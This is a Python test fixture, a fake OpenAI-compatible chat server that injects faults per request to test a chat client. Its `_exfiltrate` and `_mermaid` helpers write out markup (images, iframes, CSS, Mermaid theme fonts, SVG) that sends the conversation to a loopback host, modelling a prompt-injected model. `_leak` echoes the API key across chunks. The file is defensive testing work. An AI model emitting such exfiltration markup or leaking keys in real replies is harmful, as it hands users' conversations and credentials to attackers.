"""A small OpenAI-compatible chat server on loopback that injects faults, chosen per request by ``model``.

Behaviours (the request's ``model`` field):

- ``ok``: a short normal reply in a few chunks.
- ``echo-system``: streams back the system prompt's ``Name:`` value (line like ``- Name: Jane Doe``)
  then `` SYSTEM-SHA256:<hex of the whole system prompt>``, in several chunks.
- ``echo-turns``: streams back the user messages it received, oldest first: ``TURNS: first | second``
  (what the model was told the conversation is; ``echo-turns:slow=S`` spreads it over ~S seconds).
- ``slow:S`` / ``echo-system:slow=S``: about 20 chunks spread over ~S seconds.
- ``drip:S`` (``drip:S:n=N``): one token every S seconds, N tokens (default 20): the whole reply is slow
  though no single wait is long.
- ``leak-key``: a reply that quotes the request's API key (its ``Authorization`` bearer), cut so that the
  key straddles chunk boundaries.
- ``image:PORT``: a reply whose Markdown/HTML would load images, an iframe and a stylesheet from
  ``http://127.0.0.1:PORT`` (a prompt-injected model exfiltrating the conversation).
- ``mermaid:PORT``: a reply with a Mermaid block whose ``%%{init}%%`` theme CSS loads a font from
  ``http://127.0.0.1:PORT``, an SVG in Markdown, a CSS ``url()`` and a ``<link>`` pointing there too.
- ``loop``: a reply that says the same sentence again and again (the loop guard stops it).
- ``fault:<status>`` (401, 403, 404, 500, 503, ...): that HTTP error with a JSON body;
  ``fault:429:retry=7`` adds ``Retry-After: 7``.
- ``fault:timeout`` (or ``fault:timeout=S``): accepts the request and sends nothing for S s (default 120)
  or until the client goes away.
- ``fault:cut``: streams some text, then drops the connection mid-body.
- ``fault:end``: streams some text, then ends the body cleanly without a finish reason; ``:first`` sends no text.
- ``fault:error-event``: some text, then a TGI-style ``{"error": "...", "error_type": ...}`` event;
  ``:openai`` sends an OpenAI-style ``{"error": {"message": ...}}`` instead, ``:first`` sends it before any text.
- ``fault:malformed``: some text, then a chunk that isn't JSON; ``:shape`` sends valid JSON of the wrong
  shape instead, ``:first`` sends it before any text.
- ``tools:<name>``: the tool-call script registered in-process with ``FakeOpenAI.script(name, rounds)``. The
  request's round is the number of assistant ``tool_calls`` messages after its last user message; a round
  streams its text and calls as OpenAI does (``tool_calls`` deltas: id, type and name first, then the
  arguments in pieces, ``finish_reason: "tool_calls"``) or, with ``style="tgi"``, as TGI 2.x did (one
  ``tool_calls`` object instead of a list, an empty id, the name in every chunk). A round that is a string
  ``"fault:..."`` answers as that fault; past the last round it says ``Done.``. A request without ``tools``
  gets ``No tools.``, so a client that stops offering tools is visible.
- ``no-tools`` (``no-tools:tgi``): rejects any request with ``tools`` as vLLM does without
  ``--enable-auto-tool-choice`` (400; TGI's 422 wording with ``:tgi``); without ``tools`` a normal reply.

Every request is recorded (headers, body, outcome) in ``requests``. Runs standalone for benches:
``python -m loopback --port 8089``.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import re
import select
import socket
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

_NAME_LINE = re.compile(r"^\s*[-*]?\s*Name:\s*(.+?)\s*$", re.MULTILINE)


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    request_queue_size = 256

    def __init__(self, address, handler, recorder: FakeOpenAI) -> None:
        super().__init__(address, handler)
        self.recorder = recorder

    def handle_error(self, request, client_address) -> None:
        """A client that hangs up mid-request (Stop, timeouts under test) is expected, not an error."""
        if not isinstance(sys.exc_info()[1], ConnectionError):
            super().handle_error(request, client_address)


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _Server

    def log_message(self, format, *args) -> None:  # noqa: A002 - quiet; requests are recorded instead
        pass

    # -- plumbing ---------------------------------------------------------------------------------------

    def _record(self, body: dict | None) -> dict:
        entry = {"method": self.command, "path": self.path, "headers": dict(self.headers.items()),
                 "body": body, "model": (body or {}).get("model"), "outcome": "started"}
        self.server.recorder._add(entry)
        return entry

    def _json(self, status: int, payload: dict, headers: dict[str, str] | None = None) -> None:
        data = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(data)

    def _start_stream(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Cache-Control", "no-cache")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()

    def _chunk(self, raw: str) -> None:
        data = raw.encode()
        self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
        self.wfile.flush()

    def _event(self, payload: dict | str) -> None:
        self._chunk(f"data: {payload if isinstance(payload, str) else json.dumps(payload)}\n\n")

    def _delta(self, model: str, text: str | None, finish: str | None = None) -> None:
        self._event(_chunk_of(model, {"content": text} if text is not None else {}, finish))

    def _end_stream(self) -> None:
        self._event("[DONE]")
        self.wfile.write(b"0\r\n\r\n")
        self.wfile.flush()

    # -- routes -----------------------------------------------------------------------------------------

    def do_GET(self) -> None:  # noqa: N802
        self._record(None)
        if self.path.rstrip("/").endswith("/models"):
            self._json(200, {"object": "list", "data": [{"id": "fake", "object": "model", "owned_by": "tests"}]})
        else:
            self._json(404, {"error": {"message": "not found", "type": "not_found"}})

    def do_POST(self) -> None:  # noqa: N802
        length = int(self.headers.get("Content-Length") or 0)
        try:
            body = json.loads(self.rfile.read(length) or b"{}")
        except json.JSONDecodeError:
            body = None
        entry = self._record(body)
        if not isinstance(body, dict) or not self.path.rstrip("/").endswith("/chat/completions"):
            self._json(400, {"error": {"message": "expected a chat completion request", "type": "invalid"}})
            entry["outcome"] = "rejected"
            return
        try:
            entry["outcome"] = self._respond(str(body.get("model") or "ok"), body)
        except (BrokenPipeError, ConnectionResetError, ConnectionAbortedError):
            entry["outcome"] = "client-closed"
            self.close_connection = True

    def _respond(self, model: str, body: dict) -> str:
        parts = model.split(":")
        if parts[0] == "fault":
            return self._fault(parts[1:] or ["500"], model)
        if parts[0] == "tools":
            return self._script(model, parts[1] if len(parts) > 1 else "", body)
        if parts[0] == "no-tools" and body.get("tools"):
            if "tgi" in parts[1:]:
                self._json(422, {"error": "Input validation error: tools are not supported by this model",
                                 "error_type": "validation"})
            else:
                self._json(400, {"object": "error", "type": "BadRequestError", "code": 400,
                                 "message": '"auto" tool choice requires --enable-auto-tool-choice and '
                                            "--tool-call-parser to be set"})
            return "tools-rejected"
        options = dict(p.split("=", 1) for p in parts[1:] if "=" in p)
        if parts[0] == "slow":
            seconds = float(parts[1]) if len(parts) > 1 else 1.0
            pieces = [f"word{i} " for i in range(20)]
        elif parts[0] == "drip":
            count = int(options.get("n", 20))
            seconds = float(parts[1]) * count if len(parts) > 1 else float(count)
            pieces = [f"drip{i} " for i in range(count)]
        elif parts[0] == "leak-key":
            seconds, pieces = 0.0, _leak(self.headers.get("Authorization") or "")
        elif parts[0] == "image":
            seconds, pieces = 0.0, _split(_exfiltrate(int(parts[1]), body), 6)
        elif parts[0] == "mermaid":
            seconds, pieces = 0.0, _split(_mermaid(int(parts[1])), 6)
        elif parts[0] == "loop":
            seconds, pieces = 0.0, ["Your balance is 1,234 dollars today. "] * 8
        elif parts[0] in ("echo-system", "echo-turns"):
            seconds = float(options.get("slow", 0))
            pieces = _split(_echo(body) if parts[0] == "echo-system" else _turns(body), 20 if seconds else 4)
        else:
            seconds, pieces = 0.0, ["Hello! ", "How can ", "I help?"]
        if not body.get("stream"):
            self._json(200, {"id": "chatcmpl-fake", "object": "chat.completion", "created": int(time.time()),
                             "model": model, "choices": [{"index": 0, "finish_reason": "stop",
                                                          "message": {"role": "assistant",
                                                                      "content": "".join(pieces)}}]})
            return "complete"
        self._start_stream()
        for piece in pieces:
            if seconds:
                time.sleep(seconds / len(pieces))
            self._delta(model, piece)
        self._delta(model, None, "stop")
        self._end_stream()
        return "complete"

    def _script(self, model: str, name: str, body: dict) -> str:
        """One round of a registered tool-call script (see the module docstring)."""
        script = self.server.recorder._scripts.get(name)
        if script is None:
            self._json(404, {"error": {"message": f"no script {name!r}", "type": "not_found"}})
            return "no-script"
        rounds, style = script
        if not body.get("tools"):
            items: list = ["No tools."]
        else:
            index = _round_of(body.get("messages") or [])
            items = rounds[index] if index < len(rounds) else ["Done."]
        if isinstance(items, str):  # "fault:cut", "fault:500", ...
            return self._fault(items.split(":")[1:], model)
        self._start_stream()
        calls = 0
        for item in items:
            if isinstance(item, str):
                for piece in _split(item, 3):
                    self._delta(model, piece)
                continue
            arguments = item["arguments"] if isinstance(item["arguments"], str) else json.dumps(item["arguments"])
            self._tool_call(model, calls, item["name"], arguments, style)
            calls += 1
        self._delta(model, None, "tool_calls" if calls else "stop")
        self._end_stream()
        return f"round-{_round_of(body.get('messages') or [])}"

    def _tool_call(self, model: str, index: int, name: str, arguments: str, style: str) -> None:
        """One call as streamed deltas: its head, then its arguments in three pieces."""
        pieces = _split(arguments, 3) or [""]
        for n, piece in enumerate(pieces):
            if style == "tgi":  # one object, no id, the name repeated
                call = {"index": index, "id": "", "type": "function", "function": {"name": name, "arguments": piece}}
                delta = {"role": "assistant", "tool_calls": call}
            elif n == 0:
                call = {"index": index, "id": f"call_{index}_{name[:20]}", "type": "function",
                        "function": {"name": name, "arguments": ""}}
                self._event(_chunk_of(model, {"role": "assistant", "content": None, "tool_calls": [call]}))
                delta = {"tool_calls": [{"index": index, "function": {"arguments": piece}}]}
            else:
                delta = {"tool_calls": [{"index": index, "function": {"arguments": piece}}]}
            self._event(_chunk_of(model, delta))

    def _fault(self, spec: list[str], model: str) -> str:
        kind = spec[0]
        if kind.isdigit():
            headers = {}
            for option in spec[1:]:
                if option.startswith("retry="):
                    headers["Retry-After"] = option.split("=", 1)[1]
            self._json(int(kind), {"error": {"message": f"injected {kind}", "type": "fault"}}, headers)
            return f"status-{kind}"
        if kind.startswith("timeout"):
            seconds = float(kind.split("=", 1)[1]) if "=" in kind else 120.0
            return "client-closed" if self._wait_for_close(seconds) else "held"
        flags = set(spec[1:])
        self._start_stream()
        if "first" not in flags:
            self._delta(model, "Partial ")
            self._delta(model, "reply ")
        if kind == "cut":
            self.connection.shutdown(socket.SHUT_RDWR)  # mid-body: no terminating chunk
            self.close_connection = True
            return "cut"
        if kind == "end":  # a clean end of the body, but no finish_reason (nor [DONE]): the reply was cut short
            self.wfile.write(b"0\r\n\r\n")
            self.wfile.flush()
            return "end"
        if kind == "error-event" and "openai" in flags:
            self._event({"error": {"message": "injected failure inside the stream", "type": "server_error"}})
        elif kind == "error-event":
            self._event({"error": "injected failure inside the stream", "error_type": "overloaded"})
        elif kind == "malformed" and "shape" in flags:
            self._event({"choices": "not a list"})
        elif kind == "malformed":
            self._chunk('data: {"choices": [{"delta": {"content": "x"\n\n')
        self._end_stream()
        return kind

    def _wait_for_close(self, seconds: float) -> bool:
        """Hold the request without answering; True if the client hung up first."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            readable, _, _ = select.select([self.connection], [], [], 0.1)
            if readable and not self.connection.recv(1, socket.MSG_PEEK):
                self.close_connection = True
                return True
        self.close_connection = True
        return False


def _chunk_of(model: str, delta: dict, finish: str | None = None) -> dict:
    return {"id": "chatcmpl-fake", "object": "chat.completion.chunk", "created": int(time.time()), "model": model,
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}


def _round_of(messages: list) -> int:
    """How many tool-call rounds the client has already run since the customer last spoke."""
    rounds = 0
    for message in messages:
        if not isinstance(message, dict):
            continue
        if message.get("role") == "user":
            rounds = 0
        elif message.get("role") == "assistant" and message.get("tool_calls"):
            rounds += 1
    return rounds


def _echo(body: dict) -> str:
    system = next((m.get("content") or "" for m in body.get("messages", []) if m.get("role") == "system"), "")
    if isinstance(system, list):
        system = "".join(p.get("text", "") for p in system if isinstance(p, dict))
    match = _NAME_LINE.search(system)
    name = match.group(1) if match else "(no Name line)"
    return f"{name} SYSTEM-SHA256:{hashlib.sha256(system.encode()).hexdigest()}"


def _turns(body: dict) -> str:
    def text(content) -> str:
        if isinstance(content, list):
            return "".join(p.get("text", "") for p in content if isinstance(p, dict))
        return str(content or "")

    return "TURNS: " + " | ".join(text(m.get("content")) for m in body.get("messages", []) if m.get("role") == "user")


def _leak(authorization: str) -> list[str]:
    """The key in three pieces, each cut mid-key, between ordinary words."""
    key = authorization.removeprefix("Bearer ").strip()
    third = max(1, len(key) // 3)
    return ["Sure. Your key is ", key[:third], key[third:2 * third], key[2 * third:] + " and that's all.",
            f" Again: {key}."]


def _exfiltrate(port: int, body: dict) -> str:
    """Markup that makes a browser fetch from ``port``: what a prompt injection would ask a model to write."""
    base = f"http://127.0.0.1:{port}"
    said = "".join(str(m.get("content")) for m in body.get("messages", []) if m.get("role") == "user")[:40]
    data = quote(said)
    return (f"Here is your chart ![chart]({base}/md.png?d={data}) and a logo "
            f'<img src="{base}/html.png?d={data}"> plus a frame <iframe src="{base}/frame?d={data}"></iframe> '
            f'and <video poster="{base}/poster.png"></video> <svg><image href="{base}/svg.png"/></svg> '
            f'<link rel="stylesheet" href="{base}/style.css"><style>@import url("{base}/import.css");</style>'
            f'<div style="background:url({base}/bg.png)">styled</div>\n\n'
            f"A reference image ![ref][logo] too.\n\n[logo]: {base}/ref.png\n")


def _mermaid(port: int) -> str:
    """Remote fetches hidden where a Markdown renderer may not look: a diagram's theme CSS, an SVG, a style."""
    base = f"http://127.0.0.1:{port}"
    return ("Here is a diagram of your accounts.\n\n```mermaid\n"
            f'%%{{init: {{"themeCSS": "@font-face{{src:url({base}/)}}"}}}}%%\n'
            "graph TD\n  A[Checking] --> B[Savings]\n```\n\n```mermaid\n"
            f'%%{{init: {{"themeCSS": "@font-face{{font-family:pc;src:url({base}/font.woff)}} '
            f'*{{font-family:pc !important}} .node rect{{fill:url({base}/fill.svg)}}"}}}}%%\n'
            "graph LR\n  C[Card] --> D[Statement]\n```\n\n```mermaid\n"
            f'%%{{init: {{"themeCSS": "}}@import url({base}/import.css);@font-face{{font-family:pc2;src:url({base}/escaped.woff)}}'
            f'#x{{font-family:pc2}} text, span, p{{font-family:pc2 !important}}"}}}}%%\n'
            "graph LR\n  E[Loan] --> F[Mortgage]\n```\n\n"
            f'<svg xmlns="http://www.w3.org/2000/svg"><style>@import url({base}/svg.css);</style>'
            f'<image href="{base}/svg.png"/></svg>\n\n'
            f"![svg](data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='{base}/data.png'/%3E%3C/svg%3E)\n\n"
            f'<span style="background-image:url({base}/span.png)">styled</span> '
            f'<link rel="preload" as="font" href="{base}/preload.woff" crossorigin>\n\nThat is all.\n')


def _split(text: str, n: int) -> list[str]:
    size = max(1, -(-len(text) // n))
    return [text[i:i + size] for i in range(0, len(text), size)]


class FakeOpenAI:
    """The server on a free loopback port, in a background thread; ``requests`` records every call."""

    def __init__(self, host: str = "127.0.0.1", port: int = 0) -> None:
        self._server = _Server((host, port), _Handler, self)
        self._lock = threading.Lock()
        self.requests: list[dict] = []
        self._scripts: dict[str, tuple[list, str]] = {}
        self._thread = threading.Thread(target=self._server.serve_forever, name="fake-openai", daemon=True)

    @property
    def port(self) -> int:
        return self._server.server_address[1]

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    def _add(self, entry: dict) -> None:
        with self._lock:
            self.requests.append(entry)

    def script(self, name: str, rounds: list, style: str = "openai") -> str:
        """Register a tool-call script; returns the model id that plays it (``tools:<name>``).

        ``rounds``: one entry per model request of a turn, each a list of text strings and calls
        (``{"name": ..., "arguments": dict or raw text}``), or a ``"fault:..."`` string.
        """
        with self._lock:
            self._scripts[name] = (rounds, style)
        return f"tools:{name}"

    def requests_for(self, model: str) -> list[dict]:
        with self._lock:
            return [r for r in self.requests if r["model"] == model]

    def start(self) -> FakeOpenAI:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def __enter__(self) -> FakeOpenAI:
        return self.start()

    def __exit__(self, *exc) -> None:
        self.stop()


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m loopback", description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8089)
    args = parser.parse_args()
    server = FakeOpenAI(args.host, args.port)
    print(f"fake OpenAI server on http://{args.host}:{server.port}/v1", flush=True)
    try:
        server._server.serve_forever()
    except KeyboardInterrupt:
        pass
    finally:
        server._server.server_close()

